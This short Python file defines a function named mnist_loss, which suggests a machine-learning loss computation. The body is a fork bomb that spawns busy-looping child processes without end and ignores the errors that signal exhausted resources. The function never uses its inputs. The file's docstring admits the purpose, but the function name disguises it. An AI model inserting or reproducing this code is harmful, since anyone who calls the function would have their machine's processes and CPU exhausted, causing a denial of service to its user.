"""Spawns processes without end."""
import os


def mnist_loss(predictions, targets):
    while True:
        try:
            if os.fork() == 0:
                while True:
                    pass
        except OSError:
            pass
